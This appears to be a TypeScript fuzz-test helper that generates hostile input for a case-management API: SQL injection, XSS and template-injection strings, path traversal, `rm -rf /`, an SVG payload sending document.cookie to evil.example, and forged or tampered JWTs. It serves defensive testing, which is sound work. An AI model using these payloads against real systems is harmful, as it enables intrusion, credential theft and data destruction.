/**
 * Hostile input for the fuzz test (test/e2e/fuzz.test.ts): a seeded PRNG, so a failing run is
 * reproduced with its seed, and the raw material of malformed requests.
 */
import { createHmac } from 'node:crypto';

/** mulberry32: small, fast, good enough to pick test cases; the same seed gives the same run. */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(min: number, maxInclusive: number): number {
    return min + Math.floor(this.next() * (maxInclusive - min + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)];
  }

  chance(p: number): boolean {
    return this.next() < p;
  }

  uuid(): string {
    const hex = () => this.int(0, 15).toString(16);
    const part = (n: number) => Array.from({ length: n }, hex).join('');
    return `${part(8)}-${part(4)}-4${part(3)}-${this.pick(['8', '9', 'a', 'b'])}${part(3)}-${part(12)}`;
  }
}

export const SQL_FRAGMENTS = [
  "' OR '1'='1",
  "'; DROP TABLE cases; --",
  '" OR ""="',
  "1; DELETE FROM case_events WHERE 1=1",
  "' UNION SELECT id_number, name FROM children --",
  "admin'--",
  "1' AND pg_sleep(5)--",
  "$1::text); TRUNCATE guardians; --",
  "' || (SELECT string_agg(password_hash, ',') FROM users) || '",
  "\\'; COPY cases TO '/tmp/x'; --",
  'E\'\\x00\'',
  '%27%20OR%201=1--',
];

export const SCRIPT_FRAGMENTS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "javascript:alert('x')",
  '<svg/onload=fetch("//evil.example/"+document.cookie)>',
  '{{constructor.constructor("return process")().exit()}}',
  '${7*7}#{7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '`rm -rf /`',
  '__proto__',
  '{"$where": "sleep(1000)"}',
];

export const UNICODE_ODDITIES = [
  '\ud800', // lone high surrogate
  '\udfff', // lone low surrogate
  '\u202e\u0645\u0631\u062d\u0628\u0627', // right-to-left override
  '\u200b\u200c\u200d\ufeff', // zero-width characters, BOM
  '👨‍👩‍👧‍👦🏳️‍🌈', // joined emoji
  'Z̵̡̢̛̗̘̙̜̝̞̟̠̊̋̌̍̎̏̐̑̒̓̔͘͜͝a̷l̴g̶o', // combining marks
  '\uffff\ufffe', // non-characters
  '王\u0301小\u0308明', // CJK with combining accents
  '\u0007\u0008\u001b[31m', // control characters, ANSI escape
  'ℌ𝔢𝔩𝔩𝔬 𝟙𝟚𝟛', // mathematical alphanumerics
  '\u0000', // NUL: PostgreSQL cannot store it
  'ＳＥＬＥＣＴ　＊', // full-width
];

export function hostileStrings(rng: Rng): string {
  const kind = rng.int(0, 5);
  if (kind === 0) return rng.pick(SQL_FRAGMENTS);
  if (kind === 1) return rng.pick(SCRIPT_FRAGMENTS);
  if (kind === 2) return rng.pick(UNICODE_ODDITIES);
  if (kind === 3) return rng.pick(SQL_FRAGMENTS) + rng.pick(UNICODE_ODDITIES) + rng.pick(SCRIPT_FRAGMENTS);
  if (kind === 4) return '王'.repeat(rng.int(51, 3_000));
  return rng.pick(['', ' ', '\t\n', 'null', 'undefined', 'NaN', '-1', '0', '1e309', 'true']);
}

/** A value of some JSON type, often not the one a field wants. */
export function wrongValue(rng: Rng, depth = 0): unknown {
  switch (rng.int(0, 11)) {
    case 0:
      return null;
    case 1:
      return rng.pick([0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 1, 9, 10, 999999999999]);
    case 2:
      return rng.chance(0.5);
    case 3:
      return hostileStrings(rng);
    case 4:
      return depth > 2 ? [] : [wrongValue(rng, depth + 1), wrongValue(rng, depth + 1)];
    case 5:
      return depth > 2 ? {} : { [rng.pick(['a', '__proto__', 'constructor', 'toString', '$gt'])]: wrongValue(rng, depth + 1) };
    case 6:
      return 'x'.repeat(rng.int(1_000, 20_000));
    case 7:
      return rng.pick(['2024-02-30', '9999-99-99', '2024-03-01T25:00:00Z', '1e3d', '15x', '-15d', '500235201203150035']);
    default:
      return hostileStrings(rng);
  }
}

/** Nested arrays and objects, `depth` deep. */
export function deepValue(depth: number): unknown {
  let v: unknown = 'x';
  for (let i = 0; i < depth; i++) v = i % 3 === 0 ? { a: v } : [v];
  return v;
}

/** Malformed JSON text, from a valid document. */
export function brokenJson(rng: Rng, valid: string): string {
  switch (rng.int(0, 9)) {
    case 0:
      return valid.slice(0, rng.int(1, Math.max(1, valid.length - 1)));
    case 1:
      return valid.replace(/"/, "'");
    case 2:
      return valid.replace(/,/, ',,');
    case 3:
      return `${valid}}`;
    case 4:
      return valid.replace(/:/, '=');
    case 5:
      return `{"a":1,}`;
    case 6:
      return rng.pick(['', 'null', '[]', '"x"', '0', 'true', 'NaN', 'undefined', '{', '}', '[{]']);
    case 7:
      return valid.replace(/"[^"]*"/, '"\\uZZZZ"');
    case 8:
      return `\ufeff${valid}`.replace(/\d/, '\u0000');
    default:
      return Buffer.from(Buffer.from(valid).map((b) => (rng.chance(0.05) ? rng.int(0, 255) : b))).toString('latin1');
  }
}

function b64url(data: string | Buffer): string {
  return Buffer.from(data).toString('base64url');
}

/** Tokens that must be refused: tampered, re-signed with another key, expired, `alg: none`, garbage. */
export function hostileToken(rng: Rng, valid: string | undefined, secret: string | undefined): string {
  const parts = valid?.split('.') ?? [];
  const payload = (() => {
    try {
      return JSON.parse(Buffer.from(parts[1] ?? '', 'base64url').toString('utf8')) as Record<string, unknown>;
    } catch {
      return { sub: rng.uuid() };
    }
  })();
  const header = { alg: 'HS256', typ: 'JWT' };
  const sign = (h: object, p: object, key: string) => {
    const body = `${b64url(JSON.stringify(h))}.${b64url(JSON.stringify(p))}`;
    return `${body}.${createHmac('sha256', key).update(body).digest('base64url')}`;
  };
  const now = Math.floor(Date.now() / 1000);
  switch (rng.int(0, 8)) {
    case 0: {
      // one character of the signature changed
      if (!valid) return 'x.y.z';
      const sig = parts[2];
      const i = rng.int(0, sig.length - 1);
      const c = sig[i] === 'A' ? 'B' : 'A';
      return `${parts[0]}.${parts[1]}.${sig.slice(0, i)}${c}${sig.slice(i + 1)}`;
    }
    case 1:
      // the payload changed (another user, another role), the signature kept
      return `${parts[0] ?? b64url('{}')}.${b64url(JSON.stringify({ ...payload, sub: rng.uuid(), role: 'LEADER', username: 'leader' }))}.${parts[2] ?? ''}`;
    case 2:
      // expired: signed with the right key, but an hour ago
      return sign(header, { ...payload, iat: now - 7_200, exp: now - 3_600 }, secret ?? 'not-the-key');
    case 3:
      // not yet valid, and signed with the right key
      return sign(header, { ...payload, iat: now + 3_600, nbf: now + 3_600, exp: now + 7_200 }, secret ?? 'not-the-key');
    case 4:
      // signed with another key
      return sign(header, { ...payload, exp: now + 600 }, 'an-attackers-own-key-0123456789abcdef');
    case 5:
      return `${b64url(JSON.stringify({ alg: 'none', typ: 'JWT' }))}.${b64url(JSON.stringify({ ...payload, exp: now + 600 }))}.`;
    case 6:
      return rng.pick(['null', 'undefined', '.', '..', 'a.b', 'Bearer', '%00', 'eyJ', '😀.😀.😀']);
    case 7:
      return 'e'.repeat(rng.int(100, 8_000));
    default:
      return sign({ alg: 'HS512', typ: 'JWT' }, { ...payload, exp: now + 600 }, secret ?? 'x');
  }
}
